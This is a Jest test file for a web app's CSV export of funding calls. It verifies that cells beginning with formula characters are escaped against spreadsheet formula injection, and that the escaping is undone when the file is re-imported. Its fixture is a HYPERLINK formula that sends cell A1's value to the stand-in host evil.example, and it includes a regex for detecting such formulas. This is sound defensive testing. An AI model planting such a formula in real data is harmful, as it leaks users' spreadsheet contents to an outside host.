import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import type { FundingCall, Import } from '@euregionet/shared';
import { createTestAppWithAdmin, json, type Principal, type TestApp } from '../../test/app.js';

let t: TestApp;
let admin: Principal;
beforeAll(async () => {
  ({ t, admin } = await createTestAppWithAdmin());
});
afterAll(() => t.close());

const HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1;"Klick")';

/** What a spreadsheet program would run: a cell that starts like a formula and is not a plain number. */
const runsAsFormula = (cell: string) => /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);

describe('cells of a CSV export', () => {
  let call: FundingCall;
  beforeAll(async () => {
    const made = await admin.inject({
      method: 'POST',
      url: '/api/v1/funding-calls',
      payload: {
        programme: 'horizon_europe',
        programmeName: '@Horizon Europe',
        title: { de: '-Kleinprojekte', en: '+Small projects' },
        keywords: [HYPERLINK, 'Energie'],
        partner: 'BIC',
        notes: '=1+1',
      },
    });
    expect(made.statusCode).toBe(201);
    call = json<FundingCall>(made);
  });

  it('protects a formula in a list value as in a single value, in the bytes sent', async () => {
    const exported = await admin.inject({ method: 'GET', url: '/api/v1/exports/funding-calls?format=csv' });
    expect(exported.statusCode).toBe(200);
    expect(exported.body).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1;""Klick"")|Energie"`);

    const [header, ...rows] = parse(exported.body, { bom: true }) as string[][];
    const row = rows.find((r) => r[header!.indexOf('externalId')] === call.id)!;
    const cell = (name: string) => row[header!.indexOf(name)];
    expect(cell('keywords')).toBe(`'${HYPERLINK}|Energie`);
    expect(cell('programmeName')).toBe("'@Horizon Europe");
    expect(cell('title.de')).toBe("'-Kleinprojekte");
    expect(cell('title.en')).toBe("'+Small projects");
    expect(cell('notes')).toBe("'=1+1");
    expect(rows.flat().filter(runsAsFormula)).toEqual([]);
  });

  it('re-imports as it was: the protection is not part of the value', async () => {
    const exported = await admin.inject({ method: 'GET', url: '/api/v1/exports/funding-calls?format=csv' });
    const back = await admin.inject({
      method: 'POST',
      url: '/api/v1/imports/entities/funding-calls',
      headers: { 'content-type': 'text/csv' },
      payload: exported.body,
    });
    expect(back.statusCode).toBe(200);
    const result = json<Import>(back);
    expect(result.errors).toEqual([]);
    expect(result.counts).toMatchObject({ total: 1, unchanged: 1, created: 0, updated: 0, rejected: 0 });

    const after = json<FundingCall>(await admin.inject({ method: 'GET', url: `/api/v1/funding-calls/${call.id}` }));
    expect(after.keywords).toEqual([HYPERLINK, 'Energie']);
    expect(after.programmeName).toBe('@Horizon Europe');
    expect(after.notes).toBe('=1+1');
    expect(after.version).toBe(call.version);
  });
});
